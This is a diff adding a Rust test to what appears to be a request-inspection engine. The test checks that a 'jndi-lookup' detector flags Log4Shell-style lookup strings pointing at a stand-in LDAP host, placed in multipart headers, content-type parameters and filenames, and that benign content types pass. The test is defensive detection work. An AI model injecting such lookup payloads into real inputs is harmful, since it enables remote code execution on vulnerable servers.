@@ -316,3 +316,31 @@ fn an_exclusion_names_a_value_of_a_part() {
         assert_eq!(inspect(&engine, &asked, 0).detected().count(), left);
     }
 }
+
+#[test]
+fn header_fields_of_parts_are_looked_at() {
+    let found = |asked: &Asked| -> Vec<String> {
+        let inspection = inspect(&looking(), asked, 0);
+        let told = inspection.detected();
+        told.filter(|found| found.detector == "jndi-lookup")
+            .map(|found| found.place.unwrap_or_default())
+            .collect()
+    };
+    let lookup = "text/plain\r\nX-Note: ${jndi:ldap://a.example/b}";
+    assert_eq!(found(&meta(false, lookup, "x")), ["body/meta"]);
+    let lookup = "text/plain; a=${jndi:ldap://a.example/b}";
+    assert_eq!(found(&meta(true, lookup, "x")), ["body/meta"]);
+    // What a file is called counts once.
+    let said = "name=\"a\"; filename=\"${jndi:ldap://a.example/b}\"";
+    assert_eq!(found(&form(&[(said, "", b"x")])), ["file/a"]);
+    for kind in [
+        "text/plain",
+        "application/json; charset=utf-8",
+        "image/png\r\nX-Sent-By: Mozilla/5.0 (X11; Linux x86_64)",
+        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+        "text/plain\r\nContent-Length: 0\r\nContent-Transfer-Encoding: binary",
+    ] {
+        let inspection = inspect(&looking(), &meta(true, kind, ""), 0);
+        assert_eq!(inspection.detected().count(), 0, "{kind}");
+    }
+}
